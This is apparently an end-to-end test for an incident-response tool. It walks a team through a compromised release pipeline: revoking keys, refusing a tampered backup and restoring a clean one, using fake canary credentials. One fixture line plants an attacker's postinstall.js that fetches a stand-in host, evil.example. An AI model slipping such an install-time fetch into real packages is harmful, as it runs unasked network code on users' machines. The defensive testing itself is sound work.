import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { readAlert } from '../../src/alert/read.ts';
import type { NoteSort } from '../../src/engine/entries.ts';
import { itemOf } from '../../src/engine/state.ts';
import { toHtml } from '../../src/report/html.ts';
import { toJson } from '../../src/report/json.ts';
import { toMarkdown } from '../../src/report/markdown.ts';
import type { Report } from '../../src/report/model.ts';
import { proposalsOf } from '../../src/report/proposals.ts';
import { reportModel } from '../../src/report/report.ts';
import { loadCatalogues } from '../../src/run/catalogues.ts';
import { PlayClock } from '../../src/run/clock.ts';
import { loadPlaybook } from '../../src/run/content.ts';
import { openIncident } from '../../src/run/incident.ts';
import { createLive } from '../../src/run/live.ts';
import { awsCli, RESPONDER } from '../content/actions/aws-cli.ts';
import { AwsService } from '../content/actions/aws-service.ts';
import { emulatedGitHub } from '../content/actions/emulated.ts';
import { flipByte, largestIn } from '../helpers/backups.ts';
import { openBrowser } from '../helpers/browser.ts';
import { program } from '../helpers/cli.ts';
import { expectFits, expectPrintsWell } from '../helpers/report-page.ts';
import { folder } from '../run/live/given.ts';
import { steadyStory } from './steady.ts';
import { steadyEntries } from './steady-entries.ts';
import { Team } from './team.ts';

const canaries = {
  GITHUB_TOKEN: 'gh-canary-0f6b1c8a2e',
  RESTIC_PASSWORD: 'restic-canary-77d1e0',
  NPM_TOKEN: 'npm-canary-51aa09bd',
  OLD_DEPLOYER: 'aws-canary/deployer+b61f',
  OLD_PUBLISHER: 'aws-canary/publisher+08e2',
};
const DEPLOYER = 'AKIADEPLOYERDEPLOY77';
const PUBLISHER = 'AKIAPUBLISHERPUBLI42';

/** What raises it, as Alertmanager sends it. */
const ALERT = JSON.stringify({
  version: '4',
  receiver: 'on-call',
  status: 'firing',
  groupKey: '{}:{alertname="ReleaseWithoutTag"}',
  alerts: [
    {
      status: 'firing',
      labels: { alertname: 'ReleaseWithoutTag', severity: 'critical', repository: 'acme/storefront' },
      annotations: { summary: 'storefront-sdk 4.2.1 was published, and no tag fits it' },
      startsAt: '2026-03-02T05:56:00Z',
      generatorURL: 'https://metrics.acme.example/graph?g0.expr=release_without_tag',
    },
  ],
});

/** A service's data, a restic repository with three backups of it, of which the last holds what the attacker left, and a copy with a bad disk. */
function backups(dir: string) {
  const data = join(dir, 'srv', 'artefacts');
  const repository = join(dir, 'backup');
  const env = {
    PATH: process.env.PATH,
    TZ: 'UTC',
    RESTIC_PASSWORD: canaries.RESTIC_PASSWORD,
    RESTIC_CACHE_DIR: join(dir, 'cache'),
    RESTIC_REPOSITORY: repository,
  };
  const restic = (...args: string[]) => execFileSync('restic', args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
  mkdirSync(data, { recursive: true });
  writeFileSync(join(data, 'index.json'), '{"latest":"4.2.0"}\n');
  writeFileSync(join(data, 'sdk-4.2.0.tgz'), Buffer.alloc(200_000, 'good'));
  restic('init');
  restic('backup', '--host', 'backup-1', '--time', '2026-02-27 06:00:00', data);
  writeFileSync(join(data, 'postinstall.js'), 'fetch("https://evil.example")\n');
  restic('backup', '--host', 'backup-1', '--time', '2026-03-02 05:12:00', data);
  const mirror = join(dir, 'mirror');
  execFileSync('cp', ['-a', repository, mirror]);
  flipByte(largestIn(join(mirror, 'data')));
  return { data, repository, mirror, env };
}

/** Every file below a folder, but for sockets. */
function filesIn(path: string): string[] {
  if (statSync(path).isDirectory()) return readdirSync(path).flatMap((name) => filesIn(join(path, name)));
  return statSync(path).isFile() ? [path] : [];
}

/** As the run's journal has it, with what differs from run to run standing still. Told by the first test, looked at by the others. */
let told: Report | undefined;

function report(): Report {
  if (!told) throw new Error('the run did not come to its report');
  return told;
}

describe('a compromised release pipeline, live', () => {
  it('from the alert to the report', { timeout: 300_000 }, async () => {
    const dir = folder();
    const store = join(dir, 'store');
    const github = await emulatedGitHub(canaries.GITHUB_TOKEN);
    const aws = await AwsService.start();
    aws.reset({
      [DEPLOYER]: { user: 'deployer', secret: canaries.OLD_DEPLOYER, status: 'Active' },
      [PUBLISHER]: { user: 'publisher', secret: canaries.OLD_PUBLISHER, status: 'Active' },
      [RESPONDER.key]: { user: 'responder', secret: RESPONDER.secret, status: 'Active' },
    });
    const cli = awsCli(aws.url, { iam: '/', sts: '/' });
    const { data, repository, mirror, env } = backups(dir);
    onTestFinished(async () => {
      cli.remove();
      await Promise.all([github.close(), aws.close()]);
    });

    const content = loadPlaybook('compromised-pipeline');
    const { catalogues, documents } = loadCatalogues([]);
    const environment = { ...cli.environment, ...canaries, TZ: 'UTC', RESTIC_CACHE_DIR: env.RESTIC_CACHE_DIR };
    const read = readAlert(ALERT);
    if ('problem' in read) throw new Error(read.problem);
    const { source, links, evidence, items, raised: known } = read.alert;
    const clock = new PlayClock(Date.parse('2026-03-02T05:58:00Z'));
    const session = await openIncident(store, {
      content,
      catalogues,
      documents: documents.map(({ document }) => document),
      live: createLive({ sources: {}, environment }, content.playbook, catalogues),
      roles: { lead: 'Mara', operator: 'Jon', communicator: 'Priya' },
      inputs: { repository: 'acme/storefront' },
      anchors: { ...(known !== undefined && { known }) },
      raised: { source, links, raw: evidence, items },
      title: 'A release of storefront-sdk that nobody made',
      endpoints: { github: github.url },
      selfApproval: 'refused',
      rehearsal: false,
      clock,
      typedBy: 'jon@bridge',
      by: { person: 'Jon', role: 'operator' },
    });
    onTestFinished(() => session.leave());
    const team = new Team(session, clock);
    const seenBy = async (path: string) =>
      (
        await fetch(`${github.url}/repos/acme/storefront${path}`, {
          headers: { authorization: `Bearer ${canaries.GITHUB_TOKEN}` },
        })
      ).json();

    team.tells(
      'Triage',
      'An alert of the monitoring raised it. Mara leads, Jon is at the keys, Priya tells those who must know. Each decision has its reason.',
    );
    team.at('06:00');
    team.does('Mara', { type: 'finish', step: 'acknowledge' });
    team.at('06:02');
    team.does('Mara', { type: 'finish', step: 'confirm', choice: 'confirmed', rationale: 'No tag fits the release.' });
    team.at('06:04');
    team.does('Mara', {
      type: 'finish',
      step: 'personal-data',
      choice: 'no',
      rationale: 'It builds from public sources alone.',
    });
    team.flush();

    team.tells(
      'Stop the bleed',
      'The list comes from GitHub itself. What it finds is in the register only when a person has confirmed it. What would change something is approved by the lead, with the exact request on the screen, and its success is seen by asking again.',
    );
    const stages = { step: 'survey-stages' };
    team.at('06:05');
    team.does('Jon', { type: 'take', ...stages });
    team.plans('Jon', stages, { action: 'github/list-workflows' });
    await team.runs('Jon', stages);
    team.at('06:07');
    const [workflow = ''] = team.confirms('Jon', stages);
    team.does('Jon', { type: 'finish', ...stages });
    const isolate = { step: 'isolate-stages', item: workflow };
    team.isRefused('Jon', { type: 'run-action', ...isolate, hash: 'whatever' });
    team.approves(isolate);
    team.at('06:08');
    expect((await team.runs('Jon', isolate)).status).toBe('done');
    expect(await seenBy('/actions/workflows/release.yml')).toMatchObject({ state: 'disabled_manually' });
    team.at('06:13');
    const log = session.keep({ text: '2026-03-01T22:40:11Z workflow_dispatch by acme-ci, nobody started it\n' });
    if ('problem' in log) throw new Error(log.problem);
    team.does('Jon', { type: 'finish', step: 'preserve-logs', item: workflow, evidence: [log] });
    team.at('06:15');
    team.does('Mara', {
      type: 'revise-anchor',
      anchor: 'intruded',
      value: '2026-03-01T22:40:11Z',
      source: 'the run logs',
      reason: 'A run that nobody started.',
    });
    team.flush();

    team.tells(
      'Off the shelf',
      'There is an action for it, and Jon does it in the web page all the same: that is said in words, and the playbook’s owner reads it afterwards.',
    );
    team.at('06:16');
    team.does('Jon', { type: 'take', step: 'survey-artifacts' });
    const survey = { step: 'survey-artifacts' };
    const name = 'storefront-sdk 4.2.1';
    team.does('Jon', { type: 'add-item', kind: 'artifact', name, itemType: 'npm-package', foundBy: survey });
    team.does('Jon', { type: 'finish', ...survey });
    const quarantine = { step: 'quarantine-artifacts', item: team.item(name) };
    team.at('06:17');
    team.approves(quarantine);
    team.isRefused('Jon', { type: 'finish', ...quarantine });
    team.at('06:20');
    team.does('Jon', {
      type: 'do-otherwise',
      ...quarantine,
      how: 'Unpublished by the registry’s support, on the phone.',
    });
    team.flush();

    team.tells(
      'Tell those who must know',
      'Beside the work, not behind it. What went out is in the journal with its words.',
    );
    team.at('06:21');
    team.does('Priya', { type: 'finish', step: 'advise-consumers' });
    team.does('Priya', { type: 'finish', step: 'brief-executives' });
    team.flush();

    team.tells(
      'Keys dead, and proven',
      'Both keys are listed by the AWS CLI, deleted after approval, and then used once: only the refusal that means dead is proof. The old secrets are given by reference, and stand in no file.',
    );
    const credentials = { step: 'list-credentials' };
    team.at('06:22');
    team.does('Jon', { type: 'take', ...credentials });
    for (const user of ['deployer', 'publisher']) {
      team.plans('Jon', credentials, { action: 'aws/list-access-keys', with: { user } });
      await team.runs('Jon', credentials);
      team.confirms('Jon', credentials);
    }
    team.does('Jon', { type: 'finish', ...credentials });
    team.at('06:24');
    team.does('Mara', {
      type: 'finish',
      step: 'rotation',
      choice: 'at-once',
      rationale: 'Nothing is built before nine anyway.',
    });
    for (const [key, old, time] of [
      [DEPLOYER, 'OLD_DEPLOYER', '06:25'],
      [PUBLISHER, 'OLD_PUBLISHER', '06:27'],
    ] as const) {
      const item = team.item(key);
      team.at(time);
      team.approves({ step: 'revoke-credentials', item });
      expect((await team.runs('Jon', { step: 'revoke-credentials', item })).status).toBe('done');
      const prove = { step: 'prove-credentials-dead', item };
      team.plans('Jon', prove, { subjects: { old: `env:${old}` } });
      expect(await team.runs('Jon', prove)).toMatchObject({ status: 'done', acted: [{ outcome: { proof: 'dead' } }] });
      expect(Object.keys(itemOf(session.state, item)?.reached ?? {})).toEqual(['revoked', 'proven-dead']);
    }
    expect([...aws.keys.keys()]).toEqual([RESPONDER.key]);
    team.flush();

    team.tells('Clean', 'What no action of the catalogue does is done by hand, and said how.');
    team.at('06:31');
    team.does('Mara', { type: 'finish', step: 'all-dead' });
    team.at('06:49');
    team.does('Jon', { type: 'finish', step: 'remove-implants', item: workflow });
    // The alert has brought the repository into the register as well.
    team.does('Mara', {
      type: 'rule-out',
      item: team.item('acme/storefront'),
      reason: 'Its history was read: every push of the last month is one of ours.',
    });
    for (const [key, time] of [
      [DEPLOYER, '06:58'],
      [PUBLISHER, '07:04'],
    ] as const) {
      team.at(time);
      team.does('Jon', { type: 'finish', step: 'replace-credentials', item: team.item(key) });
    }
    team.flush();

    team.tells(
      'A verified restore',
      'The backup tool itself says what it has. The newest backup was taken after the intrusion, and is refused. The mirror has a bad disk, and reading it back shows it. The older one is read back, restored into a new folder, compared file by file, and only then swapped in.',
    );
    const backup = { step: 'survey-backups' };
    team.at('07:06');
    team.does('Jon', { type: 'take', ...backup });
    for (const where of [repository, mirror]) {
      team.plans('Jon', backup, { action: 'restic/list-snapshots', with: { repository: where } });
      await team.runs('Jon', backup);
      const proposed = team.instance(backup).proposed ?? [];
      for (const { kind, itemType, name, fields } of proposed) {
        if (fields.repository !== where) continue;
        const isMirror = where === mirror;
        // Of the mirror, the older one is enough.
        if (isMirror && String(fields.taken).startsWith('2026-03-02')) continue;
        const called = isMirror ? `${name} on the mirror` : name;
        team.does('Jon', { type: 'add-item', kind, itemType, name: called, fields, foundBy: backup });
      }
    }
    team.does('Jon', { type: 'finish', ...backup });
    const all = Object.values(session.state.register.backup ?? {});
    const newest = all.find(({ fields }) => String(fields.taken).startsWith('2026-03-02'));
    const tampered = all.find(({ name }) => name.endsWith('on the mirror'));
    const good = all.find((item) => item !== newest && item !== tampered);
    if (!newest || !tampered || !good) throw new Error('three backups are expected');
    const choose = (item: string, rationale: string) =>
      team.does('Mara', { type: 'finish', step: 'choose-backup', choice: item, rationale });
    const takeBack = (reason: string) => team.does('Mara', { type: 'retract', step: 'choose-backup', reason });

    team.at('07:10');
    choose(newest.id, 'The least is lost by it.');
    team.at('07:11');
    const { glass } = team.isRefused('Jon', {
      type: 'run-action',
      step: 'verify-backup',
      item: newest.id,
      hash: 'whatever',
    });
    expect(glass).toMatchObject({ what: 'require' });
    takeBack('It was taken after they came in.');
    team.at('07:13');
    choose(tampered.id, 'It is at hand.');
    const failed = await team.runs('Jon', { step: 'verify-backup', item: tampered.id });
    expect(failed).toMatchObject({ status: 'failed', acted: [{}, { call: 'check', outcome: { verdict: 'failed' } }] });
    team.at('07:17');
    takeBack('What it gives back is not what was put in.');
    team.at('07:18');
    choose(good.id, 'From before they came in; three days are lost.');
    const verify = { step: 'verify-backup', item: good.id };
    expect((await team.runs('Jon', verify)).status).toBe('done');
    team.at('07:23');
    const restore = { step: 'restore-backup', item: good.id };
    team.plans('Jon', restore, {
      action: 'restic/restore',
      with: { into: join(dir, 'srv', 'restored'), keep: 'intruded' },
    });
    team.approves(restore);
    expect(await team.runs('Jon', restore)).toMatchObject({ status: 'done', outputs: { digest: good.fields.digest } });
    expect(readdirSync(data).sort()).toEqual(['index.json', 'sdk-4.2.0.tgz']);
    expect(readdirSync(`${data}.before-intruded`)).toContain('postinstall.js');
    team.at('07:35');
    const resume = { step: 'resume-stages', item: workflow };
    team.approves(resume);
    expect((await team.runs('Jon', resume)).status).toBe('done');
    expect(await seenBy('/actions/workflows/release.yml')).toMatchObject({ state: 'active' });
    team.flush();

    team.tells(
      'Close, and learn',
      'Everybody says what they saw. What is to be better has an owner, a day, and something that will show it; one of these the run itself proposed. The report is made from the journal alone.',
    );
    team.at('07:50');
    team.does('Mara', {
      type: 'finish',
      step: 'watch',
      choice: 'no',
      rationale: 'The keys are dead and the door is shut.',
    });
    team.at('07:58');
    team.does('Mara', { type: 'finish', step: 'hand-back' });
    expect(session.state).toMatchObject({ stage: 'hot-wash', outcome: 'closed' });
    team.at('08:05');
    const said = (person: string, sort: NoteSort, text: string) => team.does(person, { type: 'note', sort, text });
    said('Mara', 'well', 'Every key was on the list before the first one was deleted.');
    said('Jon', 'poorly', 'The logs took five minutes to find: nobody had ever looked for them.');
    said('Priya', 'lucky', 'A backup from before they came in was still there. It would have been gone on Friday.');
    said('Mara', 'factor', 'Keys that live for years lay where every workflow can read them.');
    const proposed = proposalsOf(session.state, session.entries).find(({ id }) => id.startsWith('otherwise '));
    for (const better of [
      {
        text: 'Publish with keys that live for an hour, issued to the one workflow that needs them.',
        owner: 'Jon',
        due: '2026-04-15',
        finding: 'long-lived-key',
        element: 'equipment',
        doneWhen: 'No user of the pipeline has an access key.',
      },
      {
        text: 'Read every backup repository back once a month, the mirror as well.',
        owner: 'Jon',
        due: '2026-03-31',
        element: 'planning',
        doneWhen: 'Two months of results are in the log of the backups.',
      },
      {
        text: proposed?.text ?? '',
        ...(proposed && { from: proposed.id }),
        owner: 'Priya',
        due: '2026-03-16',
        element: 'planning',
        doneWhen: 'The number of the registry’s support stands in the step.',
      },
    ] as const)
      team.does('Mara', { type: 'add-improvement', ...better });
    team.at('08:20');
    team.does('Mara', { type: 'close' });
    team.flush();

    const asItWas = reportModel(session.entries, session.state.definition);
    const page = toMarkdown(asItWas);
    expect(page).toContain('LIVE');
    session.leave();
    const verified = execFileSync(process.execPath, [program, 'verify', session.run, '--store', store], {
      encoding: 'utf8',
    });
    expect(verified).toContain(session.head);
    const kept = filesIn(store);
    const everything = [page, toJson(asItWas), team.story, ...kept.map((file) => readFileSync(file, 'latin1'))];
    for (const canary of Object.values(canaries)) for (const text of everything) expect(text).not.toContain(canary);

    const varying = { dir, github: github.url, run: session.run, entries: session.entries };
    const textOf = (hash: string) => readFileSync(kept.find((file) => file.endsWith(hash)) ?? hash, 'utf8');
    told = reportModel(steadyEntries(varying, textOf), session.state.definition);
    await expect(steadyStory(team.story, varying)).toMatchFileSnapshot('../../docs/walkthrough.md');
  });

  it('its report is the page that people have read', async () => {
    await expect(toMarkdown(report())).toMatchFileSnapshot('../golden/reports/walkthrough.md');
  });

  it('its report is the example of an incident in docs/examples/', async () => {
    await expect(await toHtml(report())).toMatchFileSnapshot('../../docs/examples/incident.html');
  });

  // Here, where the run is at hand: a journal that other tests read would be a second golden, with all texts of the catalogues in it.
  it('as a page its report fits wide and narrow screens, and on paper no heading stands alone', {
    timeout: 120_000,
  }, async () => {
    const browser = await openBrowser();
    onTestFinished(() => browser.close());
    await expectFits(browser, report());
    await expectPrintsWell(report());
  });
});
